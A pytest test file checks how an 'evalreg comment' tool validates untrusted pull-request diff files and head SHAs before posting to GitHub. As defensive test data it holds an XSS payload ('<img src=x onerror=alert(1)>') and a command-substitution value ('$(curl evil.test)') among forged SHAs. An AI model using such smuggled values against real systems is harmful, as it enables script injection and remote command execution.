"""The checks `evalreg comment` makes before posting an untrusted pull request's diff:
the file's size, its JSON, its schema, the head SHA's form and the pull request's head,
each accepted and refused with its exact message (GitHub is the loopback stand-in)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from evalreg.errors import UntrustedInputError, UsageError
from evalreg.gitops.github import GitHubClient
from evalreg.gitops.trusted import (
    MAX_JSON_BYTES,
    CommentTarget,
    check_head_sha,
    comment_target,
    read_diff,
    read_json_object,
)

from support.github_api import GitHubAPI

BOT = "github-actions[bot]"
TOKEN = "ghs_trustedtest0123456789"
HEAD = "a" * 40
MOVED = "b" * 40
HOSTILE = "<img src=x onerror=alert(1)> @octocat"


MINIMAL: dict = {
    "schema_version": 1,
    "snippets": True,
    "base": {"label": "main"},
    "head": {"label": "pr"},
    "warnings": [],
    "selections": [],
    "cells": [],
    "reproduction": {"status": "not_attempted", "reason": "not stated"},
    "check": None,
    "remote_objects": None,
    "dvc_remote": {
        "base": {"default": None, "remotes": {}},
        "head": {"default": None, "remotes": {}},
        "changed": False,
    },
}
"""The smallest diff document that validates: a diff of two registries without cells."""
CELL: dict = {"id": "t/c", "status": "pending", "overall": {"base": None, "head": None}}


def padded(size: int, **fields: object) -> bytes:
    """A JSON object of exactly ``size`` bytes holding ``fields`` and a padding string."""
    bare = json.dumps({**fields, "pad": ""}).encode()
    assert size >= len(bare)
    return json.dumps({**fields, "pad": "x" * (size - len(bare))}).encode()


def refused(call, *args, **kwargs) -> UntrustedInputError:
    with pytest.raises(UntrustedInputError) as caught:
        call(*args, **kwargs)
    assert isinstance(caught.value, UsageError) and caught.value.exit_code == 2
    return caught.value


# ---------------------------------------------------------------- size
@pytest.mark.parametrize("size", [999, 1000])
def test_a_file_up_to_the_cap_is_read(tmp_path: Path, size: int):
    path = tmp_path / "diff.json"
    path.write_bytes(padded(size, **MINIMAL))
    assert path.stat().st_size == size
    assert read_diff(path, "diff.json", max_bytes=1000).schema_version == 1


def test_a_file_over_the_cap_is_refused_unread(tmp_path: Path):
    path = tmp_path / "diff.json"
    path.write_bytes(padded(1001, schema_version=1))
    error = refused(read_diff, path, "diff.json", max_bytes=1000)
    assert error.check == "size"
    assert str(error) == "--diff diff.json: larger than 1,000 bytes, not an evalreg diff"


def test_the_default_cap_is_50_megabytes(tmp_path: Path):
    at = tmp_path / "at.json"
    at.write_bytes(padded(MAX_JSON_BYTES, **MINIMAL))
    assert read_diff(at, "at.json").schema_version == 1
    over = tmp_path / "over.json"
    with over.open("wb") as f:  # sparse: refused by its size, never read
        f.truncate(MAX_JSON_BYTES + 1)
    error = refused(read_diff, over, "over.json")
    assert str(error) == "--diff over.json: larger than 50 MB, not an evalreg diff"


# ---------------------------------------------------------------- JSON
def test_malformed_json_is_placed_by_line_and_column(tmp_path: Path):
    path = tmp_path / "diff.json"
    path.write_text('{\n  "schema_version": 1,\n  "cells": [,]\n}\n')
    error = refused(read_diff, path, "diff.json")
    assert error.check == "json"
    assert str(error) == (
        "--diff diff.json:3:13: not an evalreg diff, unreadable as JSON (Expecting value)"
    )


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b'{"schema_version": 1, "x": "\xff"}', "(UnicodeDecodeError)"),
        (b"[" * 100_000 + b"]" * 100_000, "(RecursionError)"),
    ],
)
def test_unreadable_json_names_the_failure(tmp_path: Path, content: bytes, why: str):
    path = tmp_path / "diff.json"
    path.write_bytes(content)
    error = refused(read_diff, path, "diff.json")
    assert str(error) == f"--diff diff.json: not an evalreg diff, unreadable as JSON {why}"


def test_a_missing_file_is_refused(tmp_path: Path):
    error = refused(read_diff, tmp_path / "absent.json", "absent.json")
    assert str(error) == (
        "--diff absent.json: not an evalreg diff, unreadable as JSON (FileNotFoundError)"
    )


@pytest.mark.parametrize("content", ['["not", "a", "diff"]', '"text"', "1", "null"])
def test_json_that_is_not_an_object_is_refused(tmp_path: Path, content: str):
    path = tmp_path / "diff.json"
    path.write_text(content)
    error = refused(read_diff, path, "diff.json")
    assert str(error) == "--diff diff.json: not an evalreg diff (not a JSON object)"


def test_the_check_file_is_read_under_its_own_flag(tmp_path: Path):
    path = tmp_path / "check.json"
    path.write_text('{"ok": true}')
    what = "the output of `evalreg check --json`"
    assert read_json_object(path, flag="--check", name="c.json", what=what) == {"ok": True}
    path.write_text("[]")
    error = refused(read_json_object, path, flag="--check", name="c.json", what=what)
    assert str(error) == f"--check c.json: not {what} (not a JSON object)"


# ---------------------------------------------------------------- schema
@pytest.mark.parametrize("version", [None, 2, "1", True, 1.5])
def test_a_diff_of_another_schema_is_refused(tmp_path: Path, version: object):
    path = tmp_path / "diff.json"
    fields = {} if version is None else {"schema_version": version}
    path.write_text(json.dumps({**fields, "cells": []}))
    error = refused(read_diff, path, "diff.json")
    assert error.check == "schema"
    assert str(error) == "--diff diff.json: not an evalreg diff (schema_version 1)"


def test_a_diff_of_schema_1_is_returned_validated(tmp_path: Path):
    data = {**MINIMAL, "cells": [CELL], "warnings": ["w"]}
    path = tmp_path / "diff.json"
    path.write_text(json.dumps(data))
    document = read_diff(path, "diff.json")
    assert document.cells[0].id == "t/c" and document.warnings == ["w"]
    assert document.model_dump(mode="json", exclude_unset=True) == data


def _with(path: tuple, value: object) -> dict:
    """``MINIMAL`` with one cell, ``value`` put at ``path`` (a value of ``...``: removed)."""
    data = json.loads(json.dumps({**MINIMAL, "cells": [CELL]}))
    node = data
    for step in path[:-1]:
        node = node[step]
    if value is ...:
        del node[path[-1]]
    else:
        node[path[-1]] = value
    return data


@pytest.mark.parametrize(
    ("path", "value", "says"),
    [
        (("reproduction",), ..., "reproduction: Field required"),
        (("cells", 0, "overall"), ..., "cells.0.overall: Field required"),
        (("cells", 0, "status"), "merged", "cells.0.status: Input should be 'removed', "),
        (("cells", 0, "overall", "base"), {"pass_rate": "0.9"}, "cells.0.overall.base.pass_rate"),
        (("snippets",), 1, "snippets: Input should be a valid boolean"),
        (("warnings",), [HOSTILE], None),
        (("base", "commit"), None, "base.commit: Input should be a valid string"),
        (("reproduction", "status"), HOSTILE, "reproduction.status: Input should be "),
    ],
)
def test_a_diff_that_does_not_validate_is_refused_naming_the_field(
    tmp_path: Path, path: tuple, value: object, says: str | None
):
    """A wrong type, a missing field, a value outside an enumeration, a null where the
    producer leaves a field out: refused, the field named, the value never repeated."""
    path_ = tmp_path / "diff.json"
    path_.write_text(json.dumps(_with(path, value)))
    if says is None:  # hostile text where text belongs is data, escaped when rendered
        assert read_diff(path_, "diff.json").warnings == [HOSTILE]
        return
    error = refused(read_diff, path_, "diff.json")
    assert error.check == "schema"
    assert str(error).startswith("--diff diff.json: not an evalreg diff: ")
    assert says in str(error)
    assert "<img" not in str(error) and "0.9" not in str(error)


def test_fields_this_evalreg_does_not_know_are_ignored(tmp_path: Path):
    """A newer evalreg may write fields an older comment job does not know (the pull
    request that upgrades evalreg runs the new one): they are left out of what renders."""
    data = _with(("cells", 0, "shiny_new"), {"html": HOSTILE})
    data["future"] = HOSTILE
    path = tmp_path / "diff.json"
    path.write_text(json.dumps(data))
    document = read_diff(path, "diff.json")
    assert HOSTILE not in json.dumps(document.model_dump(mode="json"))


# ---------------------------------------------------------------- SHA
def test_a_full_lowercase_sha_or_none_is_accepted():
    assert check_head_sha(HEAD) == HEAD
    assert check_head_sha(None) is None


@pytest.mark.parametrize(
    "forged",
    [
        "a" * 39,
        "a" * 41,
        "A" * 40,
        "abc1234",
        "g" * 40,
        HEAD + "\n",
        f"{HEAD[:20]} {HEAD[:19]}",
        "$(curl evil.test)",
        "",
    ],
)
def test_a_forged_head_sha_is_refused(forged: str):
    error = refused(check_head_sha, forged)
    assert error.check == "sha"
    assert str(error) == "--head-sha must be a full 40-character commit SHA"


# ---------------------------------------------------------------- the pull request's head
@pytest.fixture
def github():
    with GitHubAPI(tokens={TOKEN: BOT}) as gh:
        gh.add_pull(12, HEAD)
        with GitHubClient(TOKEN, gh.repository, api_url=gh.url) as client:
            yield gh, client


def test_the_head_the_diff_was_made_for_is_posted(github):
    gh, client = github
    target = comment_target(client, 12, HEAD)
    assert target == CommentTarget("post", 12, HEAD)
    assert target.post and target.describe() == ""
    assert gh.writes() == []


def test_a_pull_request_whose_head_moved_is_not_posted(github):
    gh, client = github
    gh.add_pull(12, MOVED)
    target = comment_target(client, 12, HEAD)
    assert target == CommentTarget("moved", 12, HEAD) and not target.post
    assert target.describe() == (
        "Pull request #12 has moved past aaaaaaaaaaaa: this diff is out of date and is not "
        "posted (the run for the new head will post its own)."
    )


def test_the_pull_request_is_found_by_its_head(github):
    gh, client = github
    gh.add_pull(13, MOVED)
    assert comment_target(client, 0, MOVED) == CommentTarget("post", 13, MOVED)


def test_no_open_pull_request_with_the_head_posts_nothing(github):
    _, client = github
    target = comment_target(client, 0, "c" * 40)
    assert target == CommentTarget("no_pull", None, "c" * 40) and not target.post
    assert target.describe() == "No open pull request has head cccccccccccc: nothing to post."


def test_without_a_head_sha_the_head_is_not_asked(github):
    gh, client = github
    gh.add_pull(12, MOVED)
    assert comment_target(client, 12, None) == CommentTarget("post", 12, None)
    assert gh.requests == []


# ---------------------------------------------------------------- through the command
def test_the_command_refuses_before_asking_github(tmp_path: Path, cli, monkeypatch):
    with GitHubAPI(tokens={TOKEN: BOT}) as gh:
        gh.add_pull(12, HEAD)
        for name, value in (
            ("GITHUB_TOKEN", TOKEN),
            ("GITHUB_REPOSITORY", gh.repository),
            ("GITHUB_API_URL", gh.url),
        ):
            monkeypatch.setenv(name, value)
        monkeypatch.delenv("GITHUB_EVENT_PATH", raising=False)
        diff = tmp_path / "diff.json"
        diff.write_text('{"schema_version": 1,\n "cells": [}')
        bad_json = cli(None, "comment", "--diff", str(diff), "--pr", "12", "--head-sha", HEAD)
        diff.write_text(json.dumps({**MINIMAL, "cells": [{**CELL, "status": HOSTILE}]}))
        invalid = cli(None, "comment", "--diff", str(diff), "--pr", "12", "--head-sha", HEAD)
        diff.write_text(json.dumps(MINIMAL))
        bad_sha = cli(None, "comment", "--diff", str(diff), "--pr", "12", "--head-sha", "abc")
        assert gh.requests == []
    assert bad_json.code == 2 and "Traceback" not in bad_json.err
    assert bad_json.err == (
        f"evalreg: error: --diff {diff}:2:12: not an evalreg diff, unreadable as JSON "
        "(Expecting value)\n"
    )
    assert invalid.code == 2 and invalid.out == "" and "Traceback" not in invalid.err
    assert invalid.err.startswith(
        f"evalreg: error: --diff {diff}: not an evalreg diff: cells.0.status: Input should be "
    )
    assert "<img" not in invalid.err
    assert bad_sha.code == 2
    assert bad_sha.err == "evalreg: error: --head-sha must be a full 40-character commit SHA\n"
    assert [p.name for p in tmp_path.iterdir()] == ["diff.json"]
